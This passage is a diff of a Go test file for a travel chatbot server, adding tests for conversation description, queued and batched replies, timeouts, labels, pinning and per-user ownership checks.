@@ -1,17 +1,33 @@
 package chat
 
 import (
+	"bytes"
 	"context"
 	"errors"
+	"fmt"
+	"slices"
+	"strings"
 	"testing"
+	"time"
 
+	"github.com/acai-travel/tech-challenge/internal/analytics"
+	"github.com/acai-travel/tech-challenge/internal/audit"
+	"github.com/acai-travel/tech-challenge/internal/auth"
+	"github.com/acai-travel/tech-challenge/internal/chat/assistant"
 	"github.com/acai-travel/tech-challenge/internal/chat/model"
 	. "github.com/acai-travel/tech-challenge/internal/chat/testing"
+	"github.com/acai-travel/tech-challenge/internal/itinerary"
+	"github.com/acai-travel/tech-challenge/internal/lockx"
 	"github.com/acai-travel/tech-challenge/internal/pb"
+	"github.com/acai-travel/tech-challenge/internal/pdf"
+	"github.com/acai-travel/tech-challenge/internal/quickstart"
+	"github.com/acai-travel/tech-challenge/internal/reminder"
+	"github.com/acai-travel/tech-challenge/internal/review"
 	"github.com/google/go-cmp/cmp"
 	"github.com/twitchtv/twirp"
 	"go.mongodb.org/mongo-driver/bson/primitive"
 	"google.golang.org/protobuf/testing/protocmp"
+	"google.golang.org/protobuf/types/known/timestamppb"
 )
 
 func TestServer_DescribeConversation(t *testing.T) {
@@ -32,6 +48,83 @@ func TestServer_DescribeConversation(t *testing.T) {
 		}
 	}))
 
+	t.Run("describe without messages or with the last ones", WithFixture(func(t *testing.T, f *Fixture) {
+		c := f.CreateConversation()
+		for i := range 3 {
+			c.Messages = append(c.Messages, &model.Message{
+				ID:        primitive.NewObjectID(),
+				Role:      model.RoleAssistant,
+				Content:   fmt.Sprintf("reply %d", i),
+				CreatedAt: c.CreatedAt.Add(time.Duration(i+1) * time.Minute),
+			})
+		}
+		if err := f.UpdateConversation(ctx, c); err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+
+		none := false
+		out, err := srv.DescribeConversation(ctx, &pb.DescribeConversationRequest{ConversationId: c.ID.Hex(), IncludeMessages: &none})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if got := out.GetConversation(); len(got.GetMessages()) != 0 || got.GetMessageCount() != 4 || got.GetTitle() != c.Title {
+			t.Errorf("without messages: %d messages of %d, title %q", len(got.GetMessages()), got.GetMessageCount(), got.GetTitle())
+		}
+
+		out, err = srv.DescribeConversation(ctx, &pb.DescribeConversationRequest{ConversationId: c.ID.Hex(), LastNMessages: 2})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		got := out.GetConversation().GetMessages()
+		if len(got) != 2 || got[0].GetContent() != "reply 1" || got[1].GetContent() != "reply 2" {
+			t.Errorf("last 2 messages = %v, want replies 1 and 2 in order", got)
+		}
+
+		partial, err := f.Repository.DescribeConversationWith(ctx, c.ID.Hex(), model.DescribeOptions{LastMessages: 2})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if partial.ETag() == c.ETag() {
+			t.Errorf("ETag of the last messages = %s, want it to differ from the whole conversation's", partial.ETag())
+		}
+		if err := f.UpdateConversation(ctx, partial); !errors.Is(err, model.ErrPartialConversation) {
+			t.Errorf("UpdateConversation() of a partial conversation = %v, want ErrPartialConversation", err)
+		}
+
+		_, err = srv.DescribeConversation(ctx, &pb.DescribeConversationRequest{ConversationId: c.ID.Hex(), LastNMessages: -1})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.InvalidArgument {
+			t.Errorf("negative last_n_messages: expected twirp.InvalidArgument error, got %v", err)
+		}
+	}))
+
+	t.Run("every update changes the ETag", WithFixture(func(t *testing.T, f *Fixture) {
+		c := f.CreateConversation()
+		before := c.ETag()
+
+		if err := f.Repository.UpdateLabels(ctx, c.ID, []string{"lisbon"}, ""); err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		labelled, err := f.Repository.DescribeConversation(ctx, c.ID.Hex())
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if labelled.ETag() == before {
+			t.Errorf("ETag after relabelling = %s, want it changed", labelled.ETag())
+		}
+
+		labelled.Title = "Lisbon weekend"
+		if err := f.Repository.UpdateConversation(ctx, labelled); err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		stored, err := f.Repository.DescribeConversation(ctx, c.ID.Hex())
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if stored.ETag() != labelled.ETag() || stored.Revision != 2 {
+			t.Errorf("stored ETag = %s, want %s at revision 2", stored.ETag(), labelled.ETag())
+		}
+	}))
+
 	t.Run("describe non existing conversation should return 404", WithFixture(func(t *testing.T, f *Fixture) {
 		_, err := srv.DescribeConversation(ctx, &pb.DescribeConversationRequest{ConversationId: "08a59244257c872c5943e2a2"})
 		if err == nil {
@@ -46,10 +139,12 @@ func TestServer_DescribeConversation(t *testing.T) {
 
 // testAssistant is a simple test implementation of the Assistant interface. It returns configurable values and errors.
 type testAssistant struct {
-	title    string
-	titleErr error
-	reply    string
-	replyErr error
+	title      string
+	titleErr   error
+	reply      string
+	replyErr   error
+	followUps  []string
+	categories []string
 }
 
 func (m *testAssistant) Title(ctx context.Context, conv *model.Conversation) (string, error) {
@@ -60,6 +155,18 @@ func (m *testAssistant) Reply(ctx context.Context, conv *model.Conversation) (st
 	return m.reply, m.replyErr
 }
 
+func (m *testAssistant) FollowUps(ctx context.Context, conv *model.Conversation) ([]string, error) {
+	return m.followUps, nil
+}
+
+func (m *testAssistant) Categorize(ctx context.Context, conv *model.Conversation) ([]string, error) {
+	return m.categories, nil
+}
+
+func (m *testAssistant) Refresh(ctx context.Context, conv *model.Conversation, msg *model.Message) (string, error) {
+	return m.reply, m.replyErr
+}
+
 func TestServer_StartConversation(t *testing.T) {
 	ctx := context.Background()
 
@@ -67,10 +174,14 @@ func TestServer_StartConversation(t *testing.T) {
 	var tests = []struct {
 		name         string
 		message      string
+		persona      string
+		timeoutMs    int64
 		testTitle    string
 		testTitleErr error
 		testReply    string
 		testReplyErr error
+		testFollowUp []string
+		testTags     []string
 		wantErr      bool
 		wantErrCode  twirp.ErrorCode
 	}{
@@ -81,8 +192,25 @@ func TestServer_StartConversation(t *testing.T) {
 			testTitleErr: nil,
 			testReply:    "The weather is sunny with a temperature of 25°C.",
 			testReplyErr: nil,
+			testFollowUp: []string{"What about tomorrow?", "Will it rain this weekend?"},
+			testTags:     []string{"weather"},
 			wantErr:      false,
 		},
+		{
+			name:      "persona is persisted on the conversation",
+			message:   "Cheapest way to spend a weekend in Lisbon?",
+			persona:   model.PersonaBackpacker,
+			testTitle: "Budget weekend in Lisbon",
+			testReply: "Fly midweek, stay in a hostel in Alfama and walk everywhere.",
+			wantErr:   false,
+		},
+		{
+			name:        "unknown persona returns invalid argument error",
+			message:     "Plan my trip",
+			persona:     "pirate",
+			wantErr:     true,
+			wantErrCode: twirp.InvalidArgument,
+		},
 		{
 			name:         "valid message with short content",
 			message:      "Hi",
@@ -121,6 +249,22 @@ func TestServer_StartConversation(t *testing.T) {
 			testReplyErr: errors.New("OpenAI API error"),
 			wantErr:      true,
 		},
+		{
+			name:         "reply past the deadline returns deadline exceeded error",
+			message:      "Flights from Madrid to Tokyo next week?",
+			timeoutMs:    2000,
+			testTitle:    "Flights to Tokyo",
+			testReplyErr: &assistant.DeadlineError{Steps: 1, ToolCalls: []string{"get_today_date"}},
+			wantErr:      true,
+			wantErrCode:  twirp.DeadlineExceeded,
+		},
+		{
+			name:        "negative timeout returns invalid argument error",
+			message:     "Plan my trip",
+			timeoutMs:   -1,
+			wantErr:     true,
+			wantErrCode: twirp.InvalidArgument,
+		},
 		{
 			name:         "title error cancels reply and returns error",
 			message:      "What's the time?",
@@ -137,17 +281,21 @@ func TestServer_StartConversation(t *testing.T) {
 		t.Run(tt.name, WithFixture(func(t *testing.T, f *Fixture) {
 			// Setup test assistant
 			test := &testAssistant{
-				title:    tt.testTitle,
-				titleErr: tt.testTitleErr,
-				reply:    tt.testReply,
-				replyErr: tt.testReplyErr,
+				title:      tt.testTitle,
+				titleErr:   tt.testTitleErr,
+				reply:      tt.testReply,
+				replyErr:   tt.testReplyErr,
+				followUps:  tt.testFollowUp,
+				categories: tt.testTags,
 			}
 
 			srv := NewServer(f.Repository, test)
 
 			// Execute StartConversation
 			resp, err := srv.StartConversation(ctx, &pb.StartConversationRequest{
-				Message: tt.message,
+				Message:   tt.message,
+				Persona:   tt.persona,
+				TimeoutMs: tt.timeoutMs,
 			})
 
 			// Check error expectations
@@ -211,6 +359,9 @@ func TestServer_StartConversation(t *testing.T) {
 			if conv.Title != expectedTitle {
 				t.Errorf("persisted conversation has title %q, expected %q", conv.Title, expectedTitle)
 			}
+			if conv.Persona != tt.persona {
+				t.Errorf("persisted conversation has persona %q, expected %q", conv.Persona, tt.persona)
+			}
 
 			// Check messages: should have user message and assistant reply
 			if len(conv.Messages) != 2 {
@@ -234,6 +385,1318 @@ func TestServer_StartConversation(t *testing.T) {
 			if assistantMsg.Content != tt.testReply {
 				t.Errorf("assistant message content = %q, want %q", assistantMsg.Content, tt.testReply)
 			}
+
+			// Suggested follow-ups are returned and persisted on the reply
+			if !slices.Equal(resp.Suggestions, tt.testFollowUp) {
+				t.Errorf("suggestions = %q, want %q", resp.Suggestions, tt.testFollowUp)
+			}
+			if !slices.Equal(assistantMsg.Suggestions, tt.testFollowUp) {
+				t.Errorf("persisted suggestions = %q, want %q", assistantMsg.Suggestions, tt.testFollowUp)
+			}
+
+			// Conversations are tagged with their categories
+			if !slices.Equal(conv.Tags, tt.testTags) {
+				t.Errorf("persisted tags = %q, want %q", conv.Tags, tt.testTags)
+			}
 		}))
 	}
 }
+
+func TestServer_ContinueConversation_Batch(t *testing.T) {
+	ctx := context.Background()
+
+	t.Run("messages are stored in order and answered once", WithFixture(func(t *testing.T, f *Fixture) {
+		c := f.CreateConversation()
+		test := &countingAssistant{testAssistant: testAssistant{reply: "Both are sunny this weekend."}}
+		srv := NewServer(f.Repository, test)
+
+		out, err := srv.ContinueConversation(ctx, &pb.ContinueConversationRequest{
+			ConversationId: c.ID.Hex(),
+			Messages:       []string{"What about Lisbon?", "And Porto?"},
+		})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if out.GetReply() != "Both are sunny this weekend." || test.replies != 1 {
+			t.Errorf("expected a single reply, got %q after %d replies", out.GetReply(), test.replies)
+		}
+
+		conv, err := f.Repository.DescribeConversation(ctx, c.ID.Hex())
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		var got []string
+		for _, m := range conv.Messages {
+			got = append(got, m.Content)
+		}
+		want := []string{c.Messages[0].Content, "What about Lisbon?", "And Porto?", "Both are sunny this weekend."}
+		if !slices.Equal(got, want) {
+			t.Errorf("persisted messages = %q, want %q", got, want)
+		}
+	}))
+}
+
+func TestServer_ContinueConversation_Status(t *testing.T) {
+	ctx := context.Background()
+
+	t.Run("failed reply is recorded and retried", WithFixture(func(t *testing.T, f *Fixture) {
+		c := f.CreateConversation()
+		test := &testAssistant{replyErr: errors.New("OpenAI API error")}
+		srv := NewServer(f.Repository, test)
+
+		req := &pb.ContinueConversationRequest{ConversationId: c.ID.Hex(), Message: "And in Porto?"}
+		if _, err := srv.ContinueConversation(ctx, req); err == nil {
+			t.Fatal("expected error, got nil")
+		}
+
+		out, err := srv.DescribeConversation(ctx, &pb.DescribeConversationRequest{ConversationId: c.ID.Hex()})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		var got []string
+		for _, m := range out.GetConversation().GetMessages() {
+			got = append(got, m.GetStatus())
+		}
+		if want := []string{"completed", "failed", "failed"}; !slices.Equal(got, want) {
+			t.Errorf("statuses after a failed reply = %q, want %q", got, want)
+		}
+
+		// Retrying the same message answers it instead of sending it again
+		test.replyErr, test.reply = nil, "Sunny, 22°C."
+		if _, err := srv.ContinueConversation(ctx, req); err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+
+		conv, err := f.Repository.DescribeConversation(ctx, c.ID.Hex())
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		got = nil
+		for _, m := range conv.Messages {
+			got = append(got, m.Content+" ("+m.State()+")")
+		}
+		want := []string{c.Messages[0].Content + " (completed)", "And in Porto? (completed)", "Sunny, 22°C. (completed)"}
+		if !slices.Equal(got, want) {
+			t.Errorf("messages after the retry = %q, want %q", got, want)
+		}
+	}))
+}
+
+func TestServer_ContinueConversation_Queue(t *testing.T) {
+	ctx := context.Background()
+
+	t.Run("queued reply is generated by a worker", WithFixture(func(t *testing.T, f *Fixture) {
+		c := f.CreateConversation()
+		test := &countingAssistant{testAssistant: testAssistant{reply: "Sunny, 22°C."}}
+		srv := NewServer(f.Repository, test, WithReplyQueue())
+
+		out, err := srv.ContinueConversation(ctx, &pb.ContinueConversationRequest{ConversationId: c.ID.Hex(), Message: "And in Porto?", Queue: true})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if out.GetStatus() != model.MessageStatusQueued || out.GetReplyId() == "" || out.GetReply() != "" || test.replies != 0 {
+			t.Fatalf("response = %v after %d replies, want a queued reply ID", out, test.replies)
+		}
+
+		_, err = srv.ContinueConversation(ctx, &pb.ContinueConversationRequest{ConversationId: c.ID.Hex(), Message: "And in Faro?"})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.FailedPrecondition {
+			t.Errorf("continuing with a queued reply = %v, want a failed precondition", err)
+		}
+
+		NewQueueWorker(srv, 1).Tick(ctx)
+
+		conv, err := f.Repository.DescribeConversation(ctx, c.ID.Hex())
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		last := conv.Messages[len(conv.Messages)-1]
+		if conv.Queued != nil || last.ID.Hex() != out.GetReplyId() || last.Content != "Sunny, 22°C." || last.State() != model.MessageStatusCompleted {
+			t.Errorf("after the worker, last message = %+v, queued = %+v, want the completed reply", last, conv.Queued)
+		}
+		if test.replies != 1 {
+			t.Errorf("got %d replies, want 1", test.replies)
+		}
+	}))
+
+	t.Run("queued reply waits for the live turn of its conversation", WithFixture(func(t *testing.T, f *Fixture) {
+		c := f.CreateConversation()
+		test := &countingAssistant{testAssistant: testAssistant{reply: "Sunny, 22°C."}}
+		srv := NewServer(f.Repository, test, WithReplyQueue())
+
+		if _, err := srv.ContinueConversation(ctx, &pb.ContinueConversationRequest{ConversationId: c.ID.Hex(), Message: "And in Porto?", Queue: true}); err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+
+		unlock, err := srv.lockConversation(ctx, c.ID.Hex())
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		NewQueueWorker(srv, 1).Tick(ctx)
+		unlock()
+
+		conv, err := f.Repository.DescribeConversation(ctx, c.ID.Hex())
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if conv.Queued == nil || test.replies != 0 {
+			t.Errorf("after the worker, queued = %+v after %d replies, want the reply left queued", conv.Queued, test.replies)
+		}
+	}))
+}
+
+func TestServer_ContinueConversation_QueueDisabled(t *testing.T) {
+	srv := NewServer(nil, &testAssistant{})
+	_, err := srv.ContinueConversation(context.Background(), &pb.ContinueConversationRequest{ConversationId: "68f0a1b2c3d4e5f6a7b8c9d0", Message: "Hi", Queue: true})
+	if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.Unimplemented {
+		t.Errorf("queueing without workers = %v, want unimplemented", err)
+	}
+
+	srv = NewServer(nil, &testAssistant{}, WithReplyQueue())
+	_, err = srv.ContinueConversation(context.Background(), &pb.ContinueConversationRequest{ConversationId: "68f0a1b2c3d4e5f6a7b8c9d0", Message: "Hi", Queue: true, Speak: true})
+	if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.InvalidArgument {
+		t.Errorf("queueing a spoken reply = %v, want an invalid argument", err)
+	}
+}
+
+func TestRetryFailed(t *testing.T) {
+	failed := func() *model.Conversation {
+		return &model.Conversation{Messages: []*model.Message{
+			{Role: model.RoleUser, Content: "Weather in Lisbon?"},
+			{Role: model.RoleAssistant, Content: "Sunny."},
+			{Role: model.RoleUser, Content: "And Porto?", Status: model.MessageStatusFailed},
+			{Role: model.RoleAssistant, Status: model.MessageStatusFailed},
+		}}
+	}
+
+	conv := failed()
+	retried, contents := retryFailed(conv, []string{"And Porto?"}, false)
+	if len(conv.Messages) != 3 || len(retried) != 1 || retried[0].Status != model.MessageStatusPending || contents != nil {
+		t.Errorf("retryFailed() of a resent message = %+v, %q, want the failed message pending again and nothing new", retried, contents)
+	}
+
+	conv = failed()
+	if retried, contents = retryFailed(conv, []string{"Never mind, what about Faro?"}, false); len(retried) != 1 || len(contents) != 1 {
+		t.Errorf("retryFailed() of a new message = %+v, %q, want both the failed and the new message", retried, contents)
+	}
+
+	conv = failed()
+	conv.Messages = conv.Messages[:2]
+	if retried, contents = retryFailed(conv, []string{"Thanks"}, false); retried != nil || len(contents) != 1 || len(conv.Messages) != 2 {
+		t.Errorf("retryFailed() without a failed reply = %+v, %q, want the conversation as is", retried, contents)
+	}
+}
+
+// countingAssistant counts the replies it generates.
+type countingAssistant struct {
+	testAssistant
+	replies int
+}
+
+func (m *countingAssistant) Reply(ctx context.Context, conv *model.Conversation) (string, error) {
+	m.replies++
+	return m.testAssistant.Reply(ctx, conv)
+}
+
+// slowAssistant takes delay to reply.
+type slowAssistant struct {
+	testAssistant
+	delay time.Duration
+}
+
+func (m *slowAssistant) Reply(ctx context.Context, conv *model.Conversation) (string, error) {
+	time.Sleep(m.delay)
+	return m.testAssistant.Reply(ctx, conv)
+}
+
+func TestServer_ContinueConversation_ReplyLatency(t *testing.T) {
+	ctx := context.Background()
+
+	t.Run("reply is dated when it is finished", WithFixture(func(t *testing.T, f *Fixture) {
+		c := f.CreateConversation()
+		srv := NewServer(f.Repository, &slowAssistant{testAssistant: testAssistant{reply: "Sunny, 22°C."}, delay: 100 * time.Millisecond})
+
+		if _, err := srv.ContinueConversation(ctx, &pb.ContinueConversationRequest{ConversationId: c.ID.Hex(), Message: "And in Porto?"}); err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+
+		conv, err := f.Repository.DescribeConversation(ctx, c.ID.Hex())
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		n := len(conv.Messages)
+		question, answer := conv.Messages[n-2], conv.Messages[n-1]
+		if latency := answer.CreatedAt.Sub(question.CreatedAt); latency < 100*time.Millisecond {
+			t.Errorf("reply latency = %v, want at least the 100ms the reply took", latency)
+		}
+	}))
+}
+
+func TestContinueMessages(t *testing.T) {
+	tests := []struct {
+		name string
+		req  *pb.ContinueConversationRequest
+		want []string
+	}{
+		{"single message", &pb.ContinueConversationRequest{Message: "Hi"}, []string{"Hi"}},
+		{"several messages", &pb.ContinueConversationRequest{Messages: []string{"Hi", "Weather in Lisbon?"}}, []string{"Hi", "Weather in Lisbon?"}},
+		{"no message", &pb.ContinueConversationRequest{}, nil},
+		{"both message and messages", &pb.ContinueConversationRequest{Message: "Hi", Messages: []string{"Hi"}}, nil},
+		{"an empty message", &pb.ContinueConversationRequest{Messages: []string{"Hi", " "}}, nil},
+		{"too many messages", &pb.ContinueConversationRequest{Messages: slices.Repeat([]string{"Hi"}, maxBatchMessages+1)}, nil},
+		{"a message too long", &pb.ContinueConversationRequest{Message: strings.Repeat("a", MaxMessageLength+1)}, nil},
+		{"one of the messages too long", &pb.ContinueConversationRequest{Messages: []string{"Hi", strings.Repeat("a", MaxMessageLength+1)}}, nil},
+	}
+	for _, tt := range tests {
+		got, err := continueMessages(tt.req)
+		if tt.want == nil {
+			if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.InvalidArgument {
+				t.Errorf("%s: expected an invalid argument error, got %v", tt.name, err)
+			}
+			continue
+		}
+		if err != nil || !slices.Equal(got, tt.want) {
+			t.Errorf("%s: continueMessages() = %q, %v, want %q", tt.name, got, err, tt.want)
+		}
+	}
+}
+
+func TestSyncConversation(t *testing.T) {
+	synced := time.Date(2025, 10, 1, 12, 0, 0, 0, time.UTC)
+	old := &model.Message{ID: primitive.NewObjectID(), Role: model.RoleUser, Content: "Hi", UpdatedAt: synced.Add(-time.Hour)}
+	refreshed := &model.Message{ID: primitive.NewObjectID(), Role: model.RoleAssistant, Content: "Sunny", UpdatedAt: synced.Add(time.Minute)}
+	added := &model.Message{ID: primitive.NewObjectID(), Role: model.RoleUser, Content: "Thanks", UpdatedAt: synced.Add(2 * time.Minute)}
+	conv := &model.Conversation{ID: primitive.NewObjectID(), Title: "Lisbon", Revision: 4, Messages: []*model.Message{old, refreshed, added}}
+
+	if got := syncConversation(conv, 4, synced); !got.GetUnchanged() || got.GetConversation() != nil || got.GetRevision() != 4 {
+		t.Errorf("sync at the current revision = %v, want unchanged", got)
+	}
+
+	got := syncConversation(conv, 2, synced)
+	if got.GetUnchanged() || got.GetRevision() != 4 || got.GetConversation().GetTitle() != "Lisbon" || len(got.GetConversation().GetMessages()) != 0 {
+		t.Errorf("sync = %v, want the conversation fields at revision 4, without messages", got)
+	}
+	var ids []string
+	for _, m := range got.GetMessages() {
+		ids = append(ids, m.GetId())
+	}
+	if want := []string{refreshed.ID.Hex(), added.ID.Hex()}; !slices.Equal(ids, want) {
+		t.Errorf("messages = %q, want the updated and added ones %q", ids, want)
+	}
+	if want := []string{old.ID.Hex(), refreshed.ID.Hex(), added.ID.Hex()}; !slices.Equal(got.GetMessageIds(), want) {
+		t.Errorf("message IDs = %q, want %q", got.GetMessageIds(), want)
+	}
+	if !got.GetSyncedAt().AsTime().Equal(added.UpdatedAt) {
+		t.Errorf("synced at = %v, want %v", got.GetSyncedAt().AsTime(), added.UpdatedAt)
+	}
+
+	// Messages updated just before the last sync may come from a server with a late clock
+	if got := syncConversation(conv, 2, refreshed.UpdatedAt.Add(30*time.Second)); len(got.GetMessages()) != 2 {
+		t.Errorf("sync got %d messages, want the 2 updated around the last sync", len(got.GetMessages()))
+	}
+
+	if got := syncConversation(conv, 0, time.Time{}); len(got.GetMessages()) != 3 {
+		t.Errorf("full sync got %d messages, want 3", len(got.GetMessages()))
+	}
+}
+
+func TestDeadlineExceeded(t *testing.T) {
+	err := fmt.Errorf("reply failed: %w", &assistant.DeadlineError{Steps: 2, ToolCalls: []string{"get_today_date", "get_weather"}})
+
+	twerr, ok := deadlineExceeded(err, " attempt-1 ")
+	if !ok {
+		t.Fatal("deadlineExceeded() = false, want true for a DeadlineError")
+	}
+	if twerr.Code() != twirp.DeadlineExceeded {
+		t.Errorf("code = %v, want %v", twerr.Code(), twirp.DeadlineExceeded)
+	}
+	for key, want := range map[string]string{"completed_steps": "2", "tool_calls": "get_today_date,get_weather", "attempt_id": "attempt-1"} {
+		if got := twerr.Meta(key); got != want {
+			t.Errorf("meta %s = %q, want %q", key, got, want)
+		}
+	}
+
+	if _, ok := deadlineExceeded(errors.New("OpenAI API error"), ""); ok {
+		t.Error("deadlineExceeded() = true, want false for other errors")
+	}
+	if _, err := replyTimeout(maxTimeout.Milliseconds() + 1); err == nil {
+		t.Error("replyTimeout() expected error above the maximum")
+	}
+}
+
+func TestServer_UpdateConversationLabels(t *testing.T) {
+	ctx := context.Background()
+	srv := NewServer(model.New(ConnectMongo()), nil)
+
+	t.Run("labels are normalized and filter the list", WithFixture(func(t *testing.T, f *Fixture) {
+		c := f.CreateConversation()
+
+		out, err := srv.UpdateConversationLabels(ctx, &pb.UpdateConversationLabelsRequest{
+			ConversationId: c.ID.Hex(),
+			Tags:           []string{"Summer Trip", "flights", "summer-trip", " "},
+			Folder:         " Portugal ",
+		})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+
+		if got, want := out.GetConversation().GetTags(), []string{"summer-trip", "flights"}; !slices.Equal(got, want) {
+			t.Errorf("tags = %q, want %q", got, want)
+		}
+		if got := out.GetConversation().GetFolder(); got != "Portugal" {
+			t.Errorf("folder = %q, want %q", got, "Portugal")
+		}
+
+		list, err := srv.ListConversations(ctx, &pb.ListConversationsRequest{Tag: "Summer Trip", Folder: "Portugal"})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if len(list.GetConversations()) != 1 || list.GetConversations()[0].GetId() != c.ID.Hex() {
+			t.Errorf("expected only the labelled conversation, got %d conversations", len(list.GetConversations()))
+		}
+
+		list, err = srv.ListConversations(ctx, &pb.ListConversationsRequest{Tag: "weather"})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if len(list.GetConversations()) != 0 {
+			t.Errorf("expected no conversations tagged weather, got %d", len(list.GetConversations()))
+		}
+	}))
+
+	t.Run("too many tags is an invalid argument", WithFixture(func(t *testing.T, f *Fixture) {
+		c := f.CreateConversation()
+
+		_, err := srv.UpdateConversationLabels(ctx, &pb.UpdateConversationLabelsRequest{
+			ConversationId: c.ID.Hex(),
+			Tags:           []string{"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k"},
+		})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.InvalidArgument {
+			t.Fatalf("expected twirp.InvalidArgument error, got %v", err)
+		}
+	}))
+}
+
+func TestServer_PinConversation(t *testing.T) {
+	ctx := context.Background()
+	srv := NewServer(model.New(ConnectMongo()), nil)
+
+	t.Run("pinned conversations are listed first", WithFixture(func(t *testing.T, f *Fixture) {
+		createdAt := func(day int) func(*model.Conversation) {
+			return func(c *model.Conversation) { c.CreatedAt = time.Date(2025, 6, day, 0, 0, 0, 0, time.UTC) }
+		}
+		older := f.CreateConversation(createdAt(1))
+		pinned := f.CreateConversation(createdAt(2))
+		newer := f.CreateConversation(createdAt(3))
+
+		out, err := srv.PinConversation(ctx, &pb.PinConversationRequest{ConversationId: pinned.ID.Hex()})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if out.GetConversation().GetPinnedAt() == nil {
+			t.Error("pinned conversation has no pinned_at")
+		}
+		if _, err := srv.PinConversation(ctx, &pb.PinConversationRequest{ConversationId: older.ID.Hex()}); err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+
+		list, err := srv.ListConversations(ctx, &pb.ListConversationsRequest{})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		var ids []string
+		for _, c := range list.GetConversations() {
+			ids = append(ids, c.GetId())
+		}
+		if len(ids) != 3 || !slices.Contains(ids[:2], older.ID.Hex()) || !slices.Contains(ids[:2], pinned.ID.Hex()) || ids[2] != newer.ID.Hex() {
+			t.Errorf("listed %v, want the pinned conversations before %s", ids, newer.ID.Hex())
+		}
+
+		out, err = srv.PinConversation(ctx, &pb.PinConversationRequest{ConversationId: older.ID.Hex(), Unpin: true})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if out.GetConversation().GetPinnedAt() != nil {
+			t.Error("unpinned conversation still has pinned_at")
+		}
+	}))
+
+	t.Run("favorites filter the list", WithFixture(func(t *testing.T, f *Fixture) {
+		favorite := f.CreateConversation()
+		f.CreateConversation()
+
+		out, err := srv.FavoriteConversation(ctx, &pb.FavoriteConversationRequest{ConversationId: favorite.ID.Hex()})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if !out.GetConversation().GetFavorite() {
+			t.Error("conversation is not a favorite")
+		}
+
+		list, err := srv.ListConversations(ctx, &pb.ListConversationsRequest{Favorites: true})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if len(list.GetConversations()) != 1 || list.GetConversations()[0].GetId() != favorite.ID.Hex() {
+			t.Errorf("expected only the favorite conversation, got %d conversations", len(list.GetConversations()))
+		}
+
+		if _, err := srv.FavoriteConversation(ctx, &pb.FavoriteConversationRequest{ConversationId: favorite.ID.Hex(), Unfavorite: true}); err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if list, _ := srv.ListConversations(ctx, &pb.ListConversationsRequest{Favorites: true}); len(list.GetConversations()) != 0 {
+			t.Errorf("expected no favorites, got %d conversations", len(list.GetConversations()))
+		}
+	}))
+
+	t.Run("others' conversations are not found", WithFixture(func(t *testing.T, f *Fixture) {
+		c := f.CreateConversation(func(c *model.Conversation) { c.UserID = "someone-else" })
+
+		_, err := srv.PinConversation(ctx, &pb.PinConversationRequest{ConversationId: c.ID.Hex()})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.NotFound {
+			t.Fatalf("expected twirp.NotFound error, got %v", err)
+		}
+	}))
+}
+
+func TestServer_Ownership(t *testing.T) {
+	ctx := auth.WithUserID(context.Background(), "user-1")
+	srv := NewServer(model.New(ConnectMongo()), &testAssistant{reply: "Sunny, 22°C."})
+	others := func(c *model.Conversation) { c.UserID = "user-2" }
+
+	t.Run("others' conversations are not listed", WithFixture(func(t *testing.T, f *Fixture) {
+		mine := f.CreateConversation(func(c *model.Conversation) { c.UserID = "user-1" })
+		f.CreateConversation(others)
+
+		out, err := srv.ListConversations(ctx, &pb.ListConversationsRequest{})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if got := out.GetConversations(); len(got) != 1 || got[0].GetId() != mine.ID.Hex() {
+			t.Errorf("listed %v, want the caller's conversation only", got)
+		}
+	}))
+
+	t.Run("others' conversations are not found", WithFixture(func(t *testing.T, f *Fixture) {
+		c := f.CreateConversation(others)
+
+		_, err := srv.DescribeConversation(ctx, &pb.DescribeConversationRequest{ConversationId: c.ID.Hex()})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.NotFound {
+			t.Errorf("describing another user's conversation = %v, want not found", err)
+		}
+
+		_, err = srv.ContinueConversation(ctx, &pb.ContinueConversationRequest{ConversationId: c.ID.Hex(), Message: "And in Porto?"})
+		if te, ok := err.(twirp.Error); !ok || te.Code() != twirp.NotFound {
+			t.Errorf("continuing another user's conversation = %v, want not found", err)
+		}
+
+		conv, err := f.Repository.DescribeConversation(context.Background(), c.ID.Hex())
